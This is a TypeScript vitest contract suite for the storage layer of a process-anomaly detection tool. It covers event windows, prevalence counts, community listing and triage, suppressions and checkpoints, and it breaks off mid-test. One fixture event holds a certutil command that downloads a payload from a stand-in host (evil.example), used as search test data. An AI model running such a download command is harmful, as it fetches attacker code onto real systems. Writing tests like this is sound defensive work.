/**
 * The behaviour every store behind server/ports.ts must have, as a vitest suite. Each store runs
 * it from its own test file:
 *
 *   describeStoreContract('duckdb', async () => ({ stores, importEvents, cleanup }));
 *
 * `make` is called before every test and must return an EMPTY store; `cleanup` after it.
 * `importEvents` stores already-normalised events and returns once they are readable.
 *
 * Semantics fixed here (both stores must agree; the UI relies on them):
 *  - readEvents: window is [start, end); order is @timestamp then event id; a partition holds the
 *    hosts with hostPartition(host, count) === index (server/partition.ts).
 *  - eventsById: input order, each id once, unknown ids left out.
 *  - prevalence: counts as InMemoryPrevalence over the window's events (exact distinct hosts for
 *    the few hosts used here); names are processName(), templates commandLineTemplate().
 *  - list: `from`/`to` select communities whose [firstSeen, lastSeen] overlaps [from, to)
 *    (lastSeen >= from and firstSeen < to); `host` is case-insensitive; `min_score` applies to
 *    `score`; sort `max_score` is `maxAnomaly`; `q` terms (whitespace-separated) must each occur,
 *    case-insensitively, in a command line (or parent command line) of the community's events;
 *    ties are broken by id ascending; `counts` use every filter except `status`; `reviewed` =
 *    status != open or a verdict set; unflagged = stale but triaged, hidden unless
 *    include_unflagged.
 *  - writeCommunities: upsert by id, triage kept, version + 1 per write; `replaced` removes
 *    untriaged communities of that host whose window lies inside the replaced window and that
 *    are not in the new set; triaged ones stay but become unflagged.
 *  - triage: version + 1 per effective change, one history entry per call listing from → to of
 *    each changed field; a no-op patch changes nothing; stale expectedVersion → ConflictError.
 *
 * Longer than the ~800-line guide on purpose: the contract is one suite so that both stores are
 * held to every case in one place (the stats and outbox contracts live in their own files).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AnomalousCommunity, TimeWindow } from '../../common/types/community';
import type { ProcessEvent } from '../../common/types/process_event';
import { listCommunitiesQuery } from '../../common/schemas';
import { DEFAULT_INTERVAL, DEFAULT_LOOKBACK, DEFAULT_THRESHOLD } from '../../common/constants';
import { commandLineTemplate } from '../lib/detection/command_line_template';
import { hostKey, processName } from '../lib/detection/names';
import { InMemoryPrevalence } from '../lib/detection/prevalence';
import { hostPartition } from '../partition';
import { UNFINISHED_RUN_ERROR } from './run_history';
import {
  ConflictError,
  NotFoundError,
  type ReadAccounting,
  type RunReport,
  type Stores,
} from '../ports';
import { fixtureCommunity, fixtureEvent, fixtureEvents, fixtureRule } from './testing/fixtures';
import { describeNotificationOutboxContract } from './notification_outbox_contract';
import { describeCommunityStatsContract } from './community_stats_contract';

export interface StoreHarness {
  stores: Stores;
  importEvents(events: ProcessEvent[]): Promise<void>;
  cleanup(): Promise<void>;
}

const ALL: TimeWindow = { start: '2000-01-01T00:00:00.000Z', end: '2100-01-01T00:00:00.000Z' };

async function collect(it: AsyncIterable<ProcessEvent>): Promise<ProcessEvent[]> {
  const out: ProcessEvent[] = [];
  for await (const e of it) out.push(e);
  return out;
}

function byTimeThenId(a: ProcessEvent, b: ProcessEvent): number {
  const ta = Date.parse(a['@timestamp']);
  const tb = Date.parse(b['@timestamp']);
  if (ta !== tb) return ta - tb;
  return a.event.id < b.event.id ? -1 : a.event.id > b.event.id ? 1 : 0;
}

function inWindow(e: ProcessEvent, w: TimeWindow): boolean {
  const t = Date.parse(e['@timestamp']);
  return t >= Date.parse(w.start) && t < Date.parse(w.end);
}

function query(q: Record<string, unknown> = {}) {
  return listCommunitiesQuery.parse(q);
}

/** Exact counts computed the obvious way, independent of both stores and InMemoryPrevalence. */
function independentCounts(events: readonly ProcessEvent[]) {
  const pairs = new Map<string, { n: number; hosts: Set<string>; first: number; last: number }>();
  const parents = new Map<string, number>();
  const templates = new Map<
    string,
    { n: number; hosts: Set<string>; first: number; last: number }
  >();
  const procs = new Map<string, number>();
  const bump = (m: typeof pairs, k: string, host: string, t: number): void => {
    const s = m.get(k) ?? { n: 0, hosts: new Set<string>(), first: t, last: t };
    s.n++;
    s.hosts.add(host);
    s.first = Math.min(s.first, t);
    s.last = Math.max(s.last, t);
    m.set(k, s);
  };
  for (const e of events) {
    const p = processName(e.process.parent.name ?? e.process.parent.executable);
    const c = processName(e.process.name ?? e.process.executable);
    const tpl = commandLineTemplate(e.process.command_line);
    const t = Date.parse(e['@timestamp']);
    const h = hostKey(e.host.name);
    bump(pairs, `${p}\u0000${c}`, h, t);
    bump(templates, `${c}\u0000${tpl}`, h, t);
    parents.set(p, (parents.get(p) ?? 0) + 1);
    procs.set(c, (procs.get(c) ?? 0) + 1);
  }
  return { pairs, parents, templates, procs };
}

function runReport(over: Partial<RunReport> & { runId: string; finishedAt: string }): RunReport {
  return {
    partition: { index: 0, count: 1 },
    startedAt: over.finishedAt,
    durationMs: 10,
    window: { start: '2024-03-01T10:00:00.000Z', end: '2024-03-01T10:45:00.000Z' },
    status: 'succeeded',
    eventsRead: 100,
    eventsRejected: 0,
    communities: 2,
    flagged: 1,
    errors: [],
    ...over,
  };
}

export function describeStoreContract(name: string, make: () => Promise<StoreHarness>): void {
  describe(`store contract: ${name}`, () => {
    let h: StoreHarness;
    let stores: Stores;
    beforeEach(async () => {
      h = await make();
      stores = h.stores;
    });
    afterEach(async () => {
      await h.cleanup();
    });

    // -----------------------------------------------------------------------------------------
    describe('EventSource', () => {
      it('reads a half-open window in @timestamp then id order', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        const window = { start: '2024-03-01T10:20:00.000Z', end: '2024-03-01T11:00:00.000Z' };
        const got = await collect(stores.events.readEvents({ window }));
        const want = events.filter((e) => inWindow(e, window)).sort(byTimeThenId);
        expect(got.map((e) => e.event.id)).toEqual(want.map((e) => e.event.id));
        // The start is included, the end excluded.
        expect(got.some((e) => e['@timestamp'] === window.start)).toBe(true);
        expect(got.some((e) => Date.parse(e['@timestamp']) >= Date.parse(window.end))).toBe(false);
        // Documents come back whole.
        expect(got[0]).toEqual(want[0]);
      });

      it('returns nothing for an empty window and all events for a wide one', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        expect(
          await collect(
            stores.events.readEvents({
              window: { start: '2030-01-01T00:00:00Z', end: '2030-01-02T00:00:00Z' },
            }),
          ),
        ).toEqual([]);
        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(
          events.length,
        );
      });

      it('splits hosts across partitions by hostPartition, case-insensitively', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        for (const count of [1, 2, 3]) {
          const seen: string[] = [];
          for (let index = 0; index < count; index++) {
            const part = await collect(
              stores.events.readEvents({ window: ALL, partition: { index, count } }),
            );
            for (const e of part) {
              expect(hostPartition(e.host.name, count)).toBe(index);
              seen.push(e.event.id);
            }
          }
          expect(seen.sort()).toEqual(events.map((e) => e.event.id).sort());
        }
      });

      it('counts what it reads and honours an aborted signal', async () => {
        await h.importEvents(fixtureEvents());
        const acc: ReadAccounting = { read: 0, normalised: 0, rejected: {}, skipped: {} };
        const got = await collect(stores.events.readEvents({ window: ALL }, acc));
        expect(acc.read).toBe(got.length);
        expect(acc.normalised).toBe(got.length);
        const ctl = new AbortController();
        ctl.abort();
        await expect(
          collect(stores.events.readEvents({ window: ALL, signal: ctl.signal })),
        ).rejects.toThrow();
        // Aborting mid-stream stops the iteration too.
        const ctl2 = new AbortController();
        let n = 0;
        await expect(
          (async () => {
            for await (const _e of stores.events.readEvents({ window: ALL, signal: ctl2.signal })) {
              if (++n === 5) ctl2.abort();
            }
          })(),
        ).rejects.toThrow();
        expect(n).toBeLessThan(got.length);
      });

      it('stores an event id once however often it is imported', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        await h.importEvents(events.slice(0, 10));
        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(
          events.length,
        );
      });

      it('finds events by id in input order, skipping unknown ids', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        const ids = ['ev-0042', 'nope', 'ev-0003', 'ev-0042', 'ev-0089'];
        const got = await stores.events.eventsById(ids);
        expect(got.map((e) => e.event.id)).toEqual(['ev-0042', 'ev-0003', 'ev-0089']);
        expect(got[1]).toEqual(events[3]);
        expect(await stores.events.eventsById([])).toEqual([]);
      });
    });

    // -----------------------------------------------------------------------------------------
    describe('PrevalenceProvider', () => {
      it('counts pairs and templates over the window, all hosts', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        const window = { start: '2024-03-01T10:00:00.000Z', end: '2024-03-01T11:30:00.000Z' };
        const inside = events.filter((e) => inWindow(e, window));
        const want = independentCounts(inside);
        const svc = await stores.prevalence.forWindow(window);

        const pairKeys = [...want.pairs.keys()].map((k) => {
          const [parentName, childName] = k.split('\u0000') as [string, string];
          return { parentName, childName };
        });
        const pairs = await svc.childGivenParent([
          ...pairKeys,
          { parentName: 'nobody.exe', childName: 'cmd.exe' },
        ]);
        pairKeys.forEach((k, i) => {
          const s = want.pairs.get(`${k.parentName}\u0000${k.childName}`)!;
          const total = want.parents.get(k.parentName)!;
          expect(pairs[i]).toEqual({
            parentName: k.parentName,
            childName: k.childName,
            pairCount: s.n,
            parentTotal: total,
            distinctHosts: s.hosts.size,
            firstSeen: new Date(s.first).toISOString(),
            lastSeen: new Date(s.last).toISOString(),
            probability: s.n / total,
          });
        });
        expect(pairs[pairKeys.length]).toMatchObject({
          pairCount: 0,
          parentTotal: 0,
          distinctHosts: 0,
          probability: 0,
        });

        const tplKeys = [...want.templates.keys()].map((k) => {
          const [processName_, template] = k.split('\u0000') as [string, string];
          return { processName: processName_, template };
        });
        const tpls = await svc.cmdlineGivenProcess(tplKeys);
        tplKeys.forEach((k, i) => {
          const s = want.templates.get(`${k.processName}\u0000${k.template}`)!;
          const total = want.procs.get(k.processName)!;
          expect(tpls[i]).toEqual({
            processName: k.processName,
            template: k.template,
            templateCount: s.n,
            processTotal: total,
            distinctHosts: s.hosts.size,
            firstSeen: new Date(s.first).toISOString(),
            lastSeen: new Date(s.last).toISOString(),
            probability: s.n / total,
          });
        });

        const env = await svc.environment();
        expect(env.events).toBe(inside.length);
        expect(env.hosts).toBe(new Set(inside.map((e) => hostKey(e.host.name))).size);
        expect(env.from).toBe(inside.map((e) => e['@timestamp']).sort()[0]);
        expect(env.to).toBe(
          inside
            .map((e) => e['@timestamp'])
            .sort()
            .at(-1),
        );
      });

      it('normalises the names it is asked about', async () => {
        await h.importEvents(fixtureEvents());
        const svc = await stores.prevalence.forWindow(ALL);
        const [a, b] = await svc.childGivenParent([
          { parentName: 'services.exe', childName: 'svchost.exe' },
          {
            parentName: 'C:\\Windows\\System32\\SERVICES.EXE',
            childName: '"C:\\Windows\\System32\\svchost.exe"',
          },
        ]);
        expect(a!.pairCount).toBeGreaterThan(0);
        expect(b).toEqual(a);
      });

      it('equals InMemoryPrevalence over the same events', async () => {
        const events = fixtureEvents();
        await h.importEvents(events);
        const window = { start: '2024-03-01T10:30:00.000Z', end: '2024-03-01T12:00:00.000Z' };
        const inside = events.filter((e) => inWindow(e, window));
        const ref = await InMemoryPrevalence.fromEvents(inside, { lookbackDays: 90 / 1440 });
        const svc = await stores.prevalence.forWindow(window);
        const pk = inside.map((e) => ({
          parentName: e.process.parent.name ?? e.process.parent.executable ?? '',
          childName: e.process.name,
        }));
        expect(await svc.childGivenParent(pk)).toEqual(await ref.childGivenParent(pk));
        const ck = inside.map((e) => ({
          processName: e.process.name,
          template: commandLineTemplate(e.process.command_line),
        }));
        expect(await svc.cmdlineGivenProcess(ck)).toEqual(await ref.cmdlineGivenProcess(ck));
        const env = await svc.environment();
        const refEnv = await ref.environment();
        expect({ ...env, lookbackDays: Math.round(env.lookbackDays * 1440) }).toEqual({
          ...refEnv,
          lookbackDays: Math.round(refEnv.lookbackDays * 1440),
        });
      });

      it('reports an empty environment for a window without events', async () => {
        await h.importEvents(fixtureEvents());
        const svc = await stores.prevalence.forWindow({
          start: '2030-01-01T00:00:00.000Z',
          end: '2030-01-31T00:00:00.000Z',
        });
        const env = await svc.environment();
        expect(env).toMatchObject({ hosts: 0, events: 0 });
        expect(env.lookbackDays).toBeCloseTo(30);
        const [p] = await svc.childGivenParent([
          { parentName: 'services.exe', childName: 'svchost.exe' },
        ]);
        expect(p).toMatchObject({ pairCount: 0, parentTotal: 0, probability: 0 });
      });
    });

    // -----------------------------------------------------------------------------------------
    describe('CommunityStore', () => {
      const meta = (runId = 'run-1', replaced: { host: string; window: TimeWindow }[] = []) => ({
        runId,
        detectedAt: '2024-03-01T11:00:00.000Z',
        replaced,
      });

      it('round-trips a community with default triage state', async () => {
        const c = fixtureCommunity();
        const rep = await stores.communities.writeCommunities([c], meta());
        expect(rep).toEqual({ written: 1, removed: 0, failed: [] });
        const got = await stores.communities.get(c.id);
        expect(got).toBeDefined();
        const { triage, version, detectedAt, runId, ...rest } = got!;
        expect(rest).toEqual(c);
        expect(triage).toEqual({
          status: 'open',
          assignee: null,
          note: '',
          verdict: null,
          history: [],
        });
        expect(version).toBe(1);
        expect(runId).toBe('run-1');
        expect(detectedAt).toBe('2024-03-01T11:00:00.000Z');
        expect(await stores.communities.get('does-not-exist')).toBeUndefined();
      });

      it('upserts by id: a re-run updates, never duplicates, and keeps triage', async () => {
        const c = fixtureCommunity();
        await stores.communities.writeCommunities([c], meta());
        const t = await stores.communities.triage(
          c.id,
          { status: 'acknowledged', assignee: 'bob', note: 'looking' },
          'bob',
        );
        expect(t.version).toBe(2);
        const rewritten = { ...c, score: 0.95, rank: 3 };
        await stores.communities.writeCommunities([rewritten], meta('run-2'));
        await stores.communities.writeCommunities([rewritten], meta('run-2'));
        const page = await stores.communities.list(query());
        expect(page.total).toBe(1);
        const got = await stores.communities.get(c.id);
        expect(got!.score).toBe(0.95);
        expect(got!.rank).toBe(3);
        expect(got!.runId).toBe('run-2');
        expect(got!.version).toBe(4);
        expect(got!.triage).toMatchObject({
          status: 'acknowledged',
          assignee: 'bob',
          note: 'looking',
        });
        expect(got!.triage.history).toHaveLength(1);
      });

      it('removes stale untriaged communities of replaced host windows only', async () => {
        const w = { start: '2024-03-01T10:00:00.000Z', end: '2024-03-01T10:45:00.000Z' };
        const keep = fixtureCommunity({ host: 'ws01.example.local', window: w, tag: 'keep' });
        const stale = fixtureCommunity({ host: 'ws01.example.local', window: w, tag: 'stale' });
        const staleTriaged = fixtureCommunity({
          host: 'ws01.example.local',
          window: w,
          tag: 'triaged',
        });
        const otherHost = fixtureCommunity({ host: 'ws02.example.local', window: w, tag: 'other' });
        const otherWindow = fixtureCommunity({
          host: 'ws01.example.local',
          window: { start: '2024-03-01T10:30:00.000Z', end: '2024-03-01T11:15:00.000Z' },
          tag: 'later',
        });
        await stores.communities.writeCommunities(
          [keep, stale, staleTriaged, otherHost, otherWindow],
          meta(),
        );
        await stores.communities.triage(staleTriaged.id, { note: 'seen before' }, 'alice');

        const rep = await stores.communities.writeCommunities(
          [keep],
          meta('run-2', [{ host: 'WS01.example.local', window: w }]),
        );
        expect(rep).toEqual({ written: 1, removed: 1, failed: [] });
        expect(await stores.communities.get(stale.id)).toBeUndefined();
        for (const c of [keep, staleTriaged, otherHost, otherWindow])
          expect(await stores.communities.get(c.id)).toBeDefined();

        // The triaged stale one is kept for the record but no longer listed as a detection.
        const flaggedIds = (await stores.communities.list(query({ per_page: 100 }))).items
          .map((i) => i.id)
          .sort();
        expect(flaggedIds).toEqual([keep.id, otherHost.id, otherWindow.id].sort());
        const all = await stores.communities.list(
          query({ per_page: 100, include_unflagged: 'true' }),
        );
        expect(all.items.map((i) => i.id)).toContain(staleTriaged.id);
        expect(all.counts.flagged).toBe(3);
        expect(all.total).toBe(4);

        // Found again later: flagged again, triage intact.
        await stores.communities.writeCommunities([staleTriaged], meta('run-3'));
        expect((await stores.communities.list(query({ per_page: 100 }))).total).toBe(4);
        expect((await stores.communities.get(staleTriaged.id))!.triage.note).toBe('seen before');

        // A re-run that finds nothing in the window clears its untriaged communities.
        const empty = await stores.communities.writeCommunities(
          [],
          meta('run-4', [{ host: 'ws01.example.local', window: w }]),
        );
        expect(empty).toEqual({ written: 0, removed: 1, failed: [] });
        expect(await stores.communities.get(keep.id)).toBeUndefined();
        expect(await stores.communities.get(staleTriaged.id)).toBeDefined();
      });

      it('reports invalid communities instead of failing the batch', async () => {
        const good = fixtureCommunity({ tag: 'good' });
        const bad = {
          ...fixtureCommunity({ tag: 'bad' }),
          window: { start: 'not a date', end: 'never' },
        };
        const rep = await stores.communities.writeCommunities(
          [good, bad as AnomalousCommunity],
          meta(),
        );
        expect(rep.written).toBe(1);
        expect(rep.failed).toHaveLength(1);
        expect(rep.failed[0]!.id).toBe(bad.id);
        expect(await stores.communities.get(good.id)).toBeDefined();
      });

      describe('list', () => {
        let cs: AnomalousCommunity[];
        beforeEach(async () => {
          const base = Date.parse('2024-03-01T08:00:00.000Z');
          cs = Array.from({ length: 7 }, (_, i) => {
            const start = new Date(base + i * 3_600_000).toISOString();
            const end = new Date(base + i * 3_600_000 + 2_700_000).toISOString();
            return fixtureCommunity({
              host: i % 2 === 0 ? 'WS01.example.local' : 'srv02.example.local',
              window: { start, end },
              tag: `t${i}`,
              score: 0.5 + i * 0.06,
              // max_score order differs from score order on purpose.
              maxAnomaly: [0.7, 0.2, 0.9, 0.4, 0.6, 0.8, 0.3][i],
              rank: i + 1,
              events:
                i === 6
                  ? [
                      fixtureEvent({
                        id: 't6-a',
                        time: new Date(base + i * 3_600_000 + 60_000).toISOString(),
                        host: 'srv02.example.local',
                        cmd: 'certutil.exe -urlcache -f http://evil.example/Payload.EXE',
                      }),
                      fixtureEvent({
                        id: 't6-b',
                        time: new Date(base + i * 3_600_000 + 120_000).toISOString(),
                        host: 'srv02.example.local',
                        cmd: 'cmd.exe /c dir',
                      }),
                    ]
                  : undefined,
            });
          });
          await stores.communities.writeCommunities(cs, meta());
        });

        it('sorts by every field with id as tie-breaker and pages without overlap', async () => {
          const byScore = await stores.communities.list(
            query({ sort: 'score', direction: 'desc', per_page: 100 }),
          );
          expect(byScore.items.map((i) => i.score)).toEqual(
            [...cs.map((c) => c.score)].sort((a, b) => b - a),
          );
          const byMax = await stores.communities.list(query({ per_page: 100 }));
          expect(byMax.items.map((i) => i.maxAnomaly)).toEqual([0.9, 0.8, 0.7, 0.6, 0.4, 0.3, 0.2]);
          const byRank = await stores.communities.list(
            query({ sort: 'rank', direction: 'asc', per_page: 100 }),
          );
          expect(byRank.items.map((i) => i.rank)).toEqual([1, 2, 3, 4, 5, 6, 7]);
          const byFirst = await stores.communities.list(
            query({ sort: 'first_seen', direction: 'asc', per_page: 100 }),
          );
          expect(byFirst.items.map((i) => i.id)).toEqual(cs.map((c) => c.id));
          const byLast = await stores.communities.list(
            query({ sort: 'last_seen', direction: 'desc', per_page: 100 }),
          );
          expect(byLast.items.map((i) => i.id)).toEqual([...cs].reverse().map((c) => c.id));
          const byCount = await stores.communities.list(
            query({ sort: 'event_count', direction: 'asc', per_page: 100 }),
          );
          expect(byCount.items[0]!.eventCount).toBe(2);
          expect(byCount.items.slice(1).map((i) => i.id)).toEqual(
            cs
              .slice(0, 6)
              .map((c) => c.id)
              .sort(),
          );
          const byHost = await stores.communities.list(
            query({ sort: 'host', direction: 'asc', per_page: 100 }),
          );
          expect(byHost.items.map((i) => hostKey(i.host))).toEqual(
            [...cs.map((c) => hostKey(c.host))].sort(),
          );

          const seen: string[] = [];
          for (let page = 1; page <= 4; page++) {
            const p = await stores.communities.list(query({ sort: 'score', per_page: 2, page }));
            expect(p.total).toBe(7);
            expect(p.page).toBe(page);
            expect(p.perPage).toBe(2);
            seen.push(...p.items.map((i) => i.id));
          }
          expect(seen).toEqual(byScore.items.map((i) => i.id));
          expect((await stores.communities.list(query({ page: 9, per_page: 2 }))).items).toEqual(
            [],
          );
        });

        it('returns summaries with the list fields', async () => {
          const p = await stores.communities.list(
            query({ sort: 'rank', direction: 'asc', per_page: 1 }),
          );
          const c = cs[0]!;
          expect(p.items[0]).toEqual({
            id: c.id,
            rank: c.rank,
            host: c.host,
            score: c.score,
            maxAnomaly: c.maxAnomaly,
            maxEdgeScore: c.maxEdgeScore,
            users: c.users,
            firstSeen: c.firstSeen,
            lastSeen: c.lastSeen,
            eventCount: c.events.length,
            chain: c.chain,
            techniques: c.techniques.map((t) => t.id),
            status: 'open',
            assignee: null,
            verdict: null,
            version: 1,
          });
        });

        it('filters by host, min_score, time range and free text', async () => {
          const host = await stores.communities.list(
            query({ host: 'ws01.EXAMPLE.local', per_page: 100 }),
          );
          expect(host.items.map((i) => i.id).sort()).toEqual(
            [cs[0]!, cs[2]!, cs[4]!, cs[6]!].map((c) => c.id).sort(),
          );
          expect(host.total).toBe(4);

          const min = await stores.communities.list(query({ min_score: 0.74, per_page: 100 }));
          expect(min.items.map((i) => i.id).sort()).toEqual(
            cs
              .filter((c) => c.score >= 0.74)
              .map((c) => c.id)
              .sort(),
          );

          // Overlap with [from, to): c1 (09:01–09:03) and c2 (10:01–10:03).
          const range = await stores.communities.list(
            query({
              from: '2024-03-01T09:02:00.000Z',
              to: '2024-03-01T10:01:00.000Z',
              per_page: 100,
            }),
          );
          expect(range.items.map((i) => i.id)).toEqual([cs[1]!.id]);
          const range2 = await stores.communities.list(
            query({
              from: '2024-03-01T09:02:00.000Z',
              to: '2024-03-01T10:01:00.001Z',
              per_page: 100,
            }),
          );
          expect(range2.items.map((i) => i.id).sort()).toEqual([cs[1]!.id, cs[2]!.id].sort());

          const q = await stores.communities.list(query({ q: 'payload.exe' }));
          expect(q.items.map((i) => i.id)).toEqual([cs[6]!.id]);
          const q2 = await stores.communities.list(query({ q: 'CERTUTIL urlcache' }));
          expect(q2.items.map((i) => i.id)).toEqual([cs[6]!.id]);
          const q3 = await stores.communities.list(query({ q: 'certutil notthere' }));
          expect(q3.total).toBe(0);
          // Parent command lines count too.
          const q4 = await stores.communities.list(query({ q: 'report.docm', per_page: 100 }));
          expect(q4.total).toBe(6);
          // Wildcard characters are literal.
          expect((await stores.communities.list(query({ q: '%' }))).total).toBe(0);
          expect((await stores.communities.list(query({ q: '_' }))).total).toBe(0);
        });

        it('filters by status and counts the triage tabs', async () => {
          await stores.communities.triage(cs[0]!.id, { status: 'acknowledged' }, 'a');
          await stores.communities.triage(cs[1]!.id, { status: 'closed', verdict: 'benign' }, 'a');
          await stores.communities.triage(cs[2]!.id, { verdict: 'malicious' }, 'a');
          await stores.communities.triage(cs[3]!.id, { assignee: 'bob' }, 'a');
          const open = await stores.communities.list(query({ status: 'open', per_page: 100 }));
          expect(open.total).toBe(5);
          expect(open.items.every((i) => i.status === 'open')).toBe(true);
          expect(open.counts).toEqual({
            flagged: 7,
            reviewed: 3,
            open: 5,
            acknowledged: 1,
            closed: 1,
          });
          const closed = await stores.communities.list(query({ status: 'closed' }));
          expect(closed.items.map((i) => [i.id, i.verdict])).toEqual([[cs[1]!.id, 'benign']]);
          const byStatus = await stores.communities.list(
            query({ sort: 'status', direction: 'asc', per_page: 100 }),
          );
          expect(byStatus.items.map((i) => i.status)).toEqual([
            'open',
            'open',
            'open',
            'open',
            'open',
            'acknowledged',
            'closed',
          ]);
          // Counts follow the other filters.
          const ws = await stores.communities.list(query({ host: 'ws01.example.local' }));
          expect(ws.counts).toEqual({
            flagged: 4,
            reviewed: 2,
            open: 3,
            acknowledged: 1,
            closed: 0,
          });
        });
      });

      describe('triage', () => {
        it('bumps the version and records who changed what, keeping every note', async () => {
          const c = fixtureCommunity();
          await stores.communities.writeCommunities([c], meta());
          const a = await stores.communities.triage(
            c.id,
            { status: 'acknowledged', note: 'first look' },
            'alice',
            1,
          );
          expect(a.version).toBe(2);
          expect(a.triage).toMatchObject({
            status: 'acknowledged',
            note: 'first look',
            updatedBy: 'alice',
          });
          expect(Date.parse(a.triage.updatedAt!)).toBeGreaterThan(0);
          const b = await stores.communities.triage(
            c.id,
            { note: 'actually benign', verdict: 'benign', status: 'closed' },
            'bob',
            2,
          );
          expect(b.version).toBe(3);
          expect(b.triage.history.map((x) => x.by)).toEqual(['alice', 'bob']);
          expect(b.triage.history[0]!.changes).toEqual({
            status: { from: 'open', to: 'acknowledged' },
            note: { from: '', to: 'first look' },
          });
          expect(b.triage.history[1]!.changes).toEqual({
            status: { from: 'acknowledged', to: 'closed' },
            note: { from: 'first look', to: 'actually benign' },
            verdict: { from: null, to: 'benign' },
          });
          // Un-assigning and clearing a verdict are changes too.
          const c2 = await stores.communities.triage(c.id, { assignee: 'carol' }, 'carol');
          const c3 = await stores.communities.triage(
            c.id,
            { assignee: null, verdict: null },
            'carol',
            c2.version,
          );
          expect(c3.triage).toMatchObject({ assignee: null, verdict: null });
          expect(c3.triage.history.at(-1)!.changes).toEqual({
            assignee: { from: 'carol', to: null },
            verdict: { from: 'benign', to: null },
          });
          // A no-op changes nothing.
          const same = await stores.communities.triage(c.id, { status: 'closed' }, 'dave');
          expect(same.version).toBe(c3.version);
          expect(same.triage.history).toHaveLength(c3.triage.history.length);
          expect(await stores.communities.get(c.id)).toEqual(same);
        });

        it('refuses a stale version with a 409 ConflictError carrying the current one', async () => {
          const c = fixtureCommunity();
          await stores.communities.writeCommunities([c], meta());
          await stores.communities.triage(c.id, { note: 'mine' }, 'alice', 1);
          const err = await stores.communities
            .triage(c.id, { note: 'theirs' }, 'bob', 1)
            .catch((e: unknown) => e);
          expect(err).toBeInstanceOf(ConflictError);
          expect((err as ConflictError).statusCode).toBe(409);
          expect((err as ConflictError).current).toBe(2);
          expect((await stores.communities.get(c.id))!.triage.note).toBe('mine');
        });

        it('throws NotFoundError for an unknown community', async () => {
          const err = await stores.communities
            .triage('missing', { status: 'closed' }, 'a')
            .catch((e: unknown) => e);
          expect(err).toBeInstanceOf(NotFoundError);
          expect((err as NotFoundError).statusCode).toBe(404);
        });

        it('never loses a concurrent change', async () => {
          const c = fixtureCommunity();
          await stores.communities.writeCommunities([c], meta());
          // Same expected version: exactly one wins, the rest get 409.
          const racing = await Promise.allSettled(
            Array.from({ length: 6 }, (_, i) =>
              stores.communities.triage(c.id, { note: `racer ${i}` }, `u${i}`, 1),
            ),
          );
          const won = racing.filter((r) => r.status === 'fulfilled');
          expect(won).toHaveLength(1);
          for (const r of racing)
            if (r.status === 'rejected') expect(r.reason).toBeInstanceOf(ConflictError);
          // No expected version: every change is applied and kept in the history.
          await Promise.all(
            Array.from({ length: 6 }, (_, i) =>
              stores.communities.triage(c.id, { note: `note ${i}` }, `w${i}`),
            ),
          );
          const got = (await stores.communities.get(c.id))!;
          expect(got.version).toBe(8);
          const notes = got.triage.history.map((x) => x.changes.note?.to);
          expect(notes).toHaveLength(7);
          for (let i = 0; i < 6; i++) expect(notes).toContain(`note ${i}`);
        });
      });
    });

    // -----------------------------------------------------------------------------------------
    describeCommunityStatsContract(() => stores);

    // -----------------------------------------------------------------------------------------
    describe('SuppressionStore', () => {
      it('adds, lists, filters by host and removes rules', async () => {
        const everywhere = fixtureRule({ id: 'r1' });
        const onWs01 = fixtureRule({
          id: 'r2',
          host: 'ws01.example.local',
          childName: 'whoami.exe',
          parentName: 'cmd.exe',
        });
        const community = fixtureRule({
          id: 'r3',
          kind: 'community',
          cmdTemplate: 'whoami /all',
          communityId: 'abc',
          createdAt: '2024-03-03T09:00:00.000Z',
        });
        await stores.suppressions.add([everywhere, onWs01, community]);
        expect(await stores.suppressions.all()).toEqual([everywhere, onWs01, community]);
        expect(await stores.suppressions.list()).toEqual([everywhere, onWs01, community]);
        expect(
          (await stores.suppressions.list({ hosts: ['WS01.example.local'] })).map((r) => r.id),
        ).toEqual(['r1', 'r2', 'r3']);
        expect((await stores.suppressions.list({ hosts: ['srv01'] })).map((r) => r.id)).toEqual([
          'r1',
          'r3',
        ]);
        // Upsert by id.
        await stores.suppressions.add([{ ...everywhere, reason: 'still routine' }]);
        const all = await stores.suppressions.all();
        expect(all).toHaveLength(3);
        expect(all.find((r) => r.id === 'r1')!.reason).toBe('still routine');
        expect(await stores.suppressions.remove('r2')).toBe(true);
        expect(await stores.suppressions.remove('r2')).toBe(false);
        expect((await stores.suppressions.all()).map((r) => r.id)).toEqual(['r1', 'r3']);
        await stores.suppressions.add([]);
      });
    });

    // -----------------------------------------------------------------------------------------
    describe('JobStateStore', () => {
      it('keeps one checkpoint per partition layout', async () => {
        expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toBeUndefined();
        const cp = {
          processedUntil: '2024-03-01T10:45:00.000Z',
          updatedAt: '2024-03-01T10:46:00.000Z',
        };
        await stores.state.saveCheckpoint({ index: 0, count: 1 }, cp);
        await stores.state.saveCheckpoint(
          { index: 1, count: 2 },
          { ...cp, processedUntil: '2024-03-01T09:00:00.000Z' },
        );
        expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toEqual(cp);
        expect(await stores.state.getCheckpoint({ index: 0, count: 2 })).toBeUndefined();
        expect((await stores.state.getCheckpoint({ index: 1, count: 2 }))!.processedUntil).toBe(
          '2024-03-01T09:00:00.000Z',
        );
        const later = {
          processedUntil: '2024-03-01T11:00:00.000Z',
          updatedAt: '2024-03-01T11:01:00.000Z',
        };
        await stores.state.saveCheckpoint({ index: 0, count: 1 }, later);
        expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toEqual(later);
      });

      it('records runs and lists the most recent first', async () => {
        const r1 = runReport({ runId: 'a', finishedAt: '2024-03-01T10:00:00.000Z' });
        const r2 = runReport({
          runId: 'b',
          finishedAt: '2024-03-01T10:15:00.000Z',
          status: 'failed',
          errors: ['boom'],
        });
        const r3 = runReport({
          runId: 'c',
          finishedAt: '2024-03-01T10:30:00.000Z',
          window: null,
          status: 'nothing_to_do',
        });
        for (const r of [r2, r1, r3]) await stores.state.recordRun(r);
        expect(await stores.state.recentRuns(10)).toEqual([r3, r2, r1]);
        expect(await stores.state.recentRuns(2)).toEqual([r3, r2]);
        // The same run reported again replaces the earlier report.
        const r1b = { ...r1, eventsRead: 5 };
        await stores.state.recordRun(r1b);
